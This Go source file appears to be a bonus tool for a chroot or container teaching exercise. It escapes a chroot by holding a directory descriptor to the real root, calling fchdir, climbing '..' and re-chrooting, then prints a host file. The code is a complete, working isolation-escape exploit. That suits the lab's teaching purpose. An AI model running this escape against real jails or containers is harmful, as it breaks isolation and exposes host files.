// Command bonus-fd-escape leaves a chroot through a directory descriptor and
// prints a file of the real root. Inside a container:
//
//	bonus-fd-escape self FILE  opens its own / first, then chroots below it
//	bonus-fd-escape N FILE     uses descriptor N, inherited from outside
//
// Built by bonus.sh for the exercise's bonus in docs/01-chroot.md.
package main

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: bonus-fd-escape self|FD FILE")
		os.Exit(2)
	}
	if err := escape(os.Args[1]); err != nil {
		fmt.Fprintln(os.Stderr, "bonus-fd-escape:", err)
		os.Exit(1)
	}
	data, err := os.ReadFile(os.Args[2])
	if err != nil {
		fmt.Fprintln(os.Stderr, "bonus-fd-escape:", err)
		os.Exit(1)
	}
	os.Stdout.Write(data)
}

func escape(how string) error {
	fd, err := strconv.Atoi(how)
	if how == "self" {
		// A descriptor of the current root, held across a chroot below it:
		// the descriptor still names the old root, which is now outside.
		if fd, err = syscall.Open("/", syscall.O_RDONLY|syscall.O_DIRECTORY, 0); err != nil {
			return fmt.Errorf("open /: %w", err)
		}
		if err := os.MkdirAll("/.fd-escape", 0o700); err != nil {
			return err
		}
		if err := syscall.Chroot("/.fd-escape"); err != nil {
			return fmt.Errorf("chroot /.fd-escape: %w", err)
		}
	} else if err != nil {
		return fmt.Errorf("%q: want self or a descriptor number", how)
	}
	// fchdir(2) checks nothing against the root: the working directory is
	// now outside it, and ".." is never clamped on the way up.
	if err := syscall.Fchdir(fd); err != nil {
		return fmt.Errorf("fchdir(%d): %w", fd, err)
	}
	for i := 0; i < 256; i++ {
		if err := syscall.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return syscall.Chdir("/")
}
